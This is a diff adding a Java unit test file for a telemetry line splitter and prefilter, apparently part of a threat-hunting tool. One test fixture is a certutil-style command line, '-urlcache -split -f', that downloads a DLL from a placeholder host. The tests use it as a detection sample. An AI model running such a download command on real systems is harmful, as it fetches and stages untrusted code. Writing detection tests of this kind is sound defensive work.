@@ -1,0 +1,178 @@
+package dev.bazahunt.job.replay;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.bazahunt.telemetry.RawPrefilter;
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.SplittableRandom;
+import org.junit.jupiter.api.Test;
+
+class LineSplitterTest {
+    private static final String BENIGN = "{\"DeviceId\":\"d1\",\"FolderPath\":\"C:\\\\Users\\\\a\\\\CryptnetUrlCache\\\\x\","
+            + "\"InitiatingProcessFileName\":\"svchost.exe\",\"FileName\":\"EXCEL.EXE\"}";
+    private static final String DOWNLOAD = "{\"DeviceId\":\"d1\",\"InitiatingProcessFileName\":\"x8k2.exe\","
+            + "\"InitiatingProcessCommandLine\":\"x8k2.exe -urlcache -split -f http://a.example/p.dll\"}";
+    private static final String EXCEL_CHILD = "{\"DeviceId\":\"d1\",\"InitiatingProcessFileName\" : \"Excel.EXE\"}";
+
+    /** What the splitter handed on: line number, bytes, cut; and what it skipped. */
+    private record Outcome(List<String> lines, long skipped, long consumed) {}
+
+    private static Outcome split(InputStream in, int maxLineBytes, boolean prefilter, long alreadyConsumed)
+            throws IOException {
+        LineSplitter splitter = new LineSplitter(in, maxLineBytes, prefilter);
+        splitter.skipLines(alreadyConsumed);
+        List<String> lines = new ArrayList<>();
+        int outcome;
+        while ((outcome = splitter.next(Long.MAX_VALUE)) != LineSplitter.END) {
+            assertThat(outcome).isEqualTo(LineSplitter.LINE);
+            lines.add(splitter.linesConsumed() + (splitter.truncated() ? " cut " : " ")
+                    + new String(splitter.copyOfLine(), StandardCharsets.UTF_8));
+        }
+        return new Outcome(lines, splitter.skippedLines(), splitter.linesConsumed());
+    }
+
+    private static Outcome split(String text, int maxLineBytes, boolean prefilter) throws IOException {
+        return split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), maxLineBytes, prefilter, 0);
+    }
+
+    @Test
+    void handsOnEveryLineWithoutThePrefilter() throws IOException {
+        Outcome outcome = split(BENIGN + "\r\n\n" + DOWNLOAD + "\n" + "tail", 1 << 20, false);
+        assertThat(outcome.lines()).containsExactly("1 " + BENIGN + "\r", "2 ", "3 " + DOWNLOAD, "4 tail");
+        assertThat(outcome.skipped()).isZero();
+    }
+
+    @Test
+    void prefilterHandsOnFindingsAndBrokenLinesAndCountsTheRest() throws IOException {
+        String text = String.join("\n", BENIGN, DOWNLOAD, BENIGN, EXCEL_CHILD, "not json", BENIGN, "", BENIGN);
+        Outcome outcome = split(text, 1 << 20, true);
+        assertThat(outcome.lines()).containsExactly("2 " + DOWNLOAD, "4 " + EXCEL_CHILD, "5 not json", "7 ");
+        assertThat(outcome.skipped()).isEqualTo(4);
+        assertThat(outcome.consumed()).isEqualTo(8);
+    }
+
+    @Test
+    void longLinesAreCutAtTheLimitAndTheirRestIsPassedOver() throws IOException {
+        String longBenign = "{\"a\":\"" + "b".repeat(300) + "\"}";
+        for (boolean prefilter : new boolean[] {false, true}) {
+            Outcome outcome = split(longBenign + "\n" + DOWNLOAD + "\n" + longBenign, 100, prefilter);
+            assertThat(outcome.lines()).as("prefilter %s", prefilter).containsExactly(
+                    "1 cut " + longBenign.substring(0, 100), lineOf(2, DOWNLOAD, 100),
+                    "3 cut " + longBenign.substring(0, 100));
+        }
+    }
+
+    private static String lineOf(int number, String line, int maxLineBytes) {
+        return line.length() > maxLineBytes ? number + " cut " + line.substring(0, maxLineBytes) : number + " " + line;
+    }
+
+    @Test
+    void aRestoredReaderResumesAfterTheLinesItHadConsumed() throws IOException {
+        String text = String.join("\n", DOWNLOAD, BENIGN, EXCEL_CHILD, BENIGN, DOWNLOAD);
+        Outcome outcome = split(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), 1 << 20, true, 3);
+        assertThat(outcome.lines()).containsExactly("5 " + DOWNLOAD);
+        assertThat(outcome.skipped()).isEqualTo(1);
+    }
+
+    @Test
+    void pausesAfterItsByteBudgetOnASkippedLine() throws IOException {
+        String text = (BENIGN + "\n").repeat(20_000) + DOWNLOAD;
+        LineSplitter splitter = new LineSplitter(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), 1 << 20, true);
+        assertThat(splitter.next(1)).isEqualTo(LineSplitter.PAUSED);
+        assertThat(splitter.skippedLines()).isEqualTo(splitter.linesConsumed()).isPositive().isLessThan(20_000);
+        int outcome;
+        while ((outcome = splitter.next(1)) == LineSplitter.PAUSED) {
+            // going on
+        }
+        assertThat(outcome).isEqualTo(LineSplitter.LINE);
+        assertThat(splitter.linesConsumed()).isEqualTo(20_001);
+        assertThat(splitter.skippedLines()).isEqualTo(20_000);
+    }
+
+    /**
+     * The fused scan must decide each line exactly as the per-unit pre-filter does, however the bytes
+     * arrive: in random chunk sizes, with lines longer than the read buffer and findings on its edges.
+     */
+    @Test
+    void fusedScanAgreesWithThePerUnitPrefilterWhateverTheChunking() throws IOException {
+        SplittableRandom random = new SplittableRandom(7);
+        String[] pieces = {BENIGN, DOWNLOAD, EXCEL_CHILD, "{\"a\":\"\\u0041\"}", "{\"a\":\"C:\\\\users\"}", "", "garbage",
+            "{\"a\":1}\r", "  {\"b\":\"-URLCACHE\"}  ", "{\"truncated\":\"x"};
+        for (int round = 0; round < 40; round++) {
+            List<String> lines = new ArrayList<>();
+            int count = 1 + random.nextInt(300);
+            for (int i = 0; i < count; i++) {
+                String piece = pieces[random.nextInt(pieces.length)];
+                if (random.nextInt(50) == 0) {
+                    // Longer than the splitter's 1 MiB read buffer, the finding (if any) at the far end.
+                    piece = "{\"pad\":\"" + "p".repeat((1 << 20) + random.nextInt(5000)) + "\",\"x\":" + piece + "}";
+                }
+                lines.add(piece);
+            }
+            String text = String.join("\n", lines) + (random.nextBoolean() ? "\n" : "");
+            byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
+            // A file's lines: what lies between its newlines, and no empty line after a final newline.
+            lines = new ArrayList<>(List.of(text.split("\n", -1)));
+            if (lines.get(lines.size() - 1).isEmpty()) {
+                lines.remove(lines.size() - 1);
+            }
+
+            List<String> expected = new ArrayList<>();
+            long expectedSkipped = 0;
+            for (int i = 0; i < lines.size(); i++) {
+                if (RawPrefilter.mayMatter(lines.get(i).getBytes(StandardCharsets.UTF_8))) {
+                    expected.add((i + 1) + " " + lines.get(i));
+                } else {
+                    expectedSkipped++;
+                }
+            }
+            int maxChunk = 1 + random.nextInt(random.nextBoolean() ? 64 : 200_000);
+            Outcome outcome = split(new ChunkedInputStream(bytes, maxChunk, random.split()), 4 << 20, true, 0);
+            assertThat(outcome.lines()).as("round %d, chunks up to %d", round, maxChunk).isEqualTo(expected);
+            assertThat(outcome.skipped()).isEqualTo(expectedSkipped);
+            assertThat(outcome.consumed()).isEqualTo(lines.size());
+        }
+    }
+
+    /** Hands out its bytes in random pieces of at most {@code maxChunk}, as gzip and network streams do. */
+    private static final class ChunkedInputStream extends InputStream {
+        private final byte[] bytes;
+        private final int maxChunk;
+        private final SplittableRandom random;
+        private int position;
+
+        ChunkedInputStream(byte[] bytes, int maxChunk, SplittableRandom random) {
+            this.bytes = bytes;
+            this.maxChunk = maxChunk;
+            this.random = random;
+        }
+
+        @Override
+        public int read() {
+            return position < bytes.length ? bytes[position++] & 0xFF : -1;
+        }
+
+        @Override
+        public int read(byte[] target, int offset, int length) {
+            if (position == bytes.length) {
+                return -1;
+            }
+            int n = Math.min(Math.min(length, bytes.length - position), 1 + random.nextInt(maxChunk));
+            System.arraycopy(bytes, position, target, offset, n);
+            position += n;
+            return n;
+        }
+    }
+
+    @Test
+    void theChunkedStreamHandsOutEveryByte() throws IOException {
+        byte[] bytes = new byte[10_000];
+        new SplittableRandom(1).nextBytes(bytes);
+        assertThat(new ChunkedInputStream(bytes, 7, new SplittableRandom(2)).readAllBytes()).isEqualTo(bytes);
+    }
+}
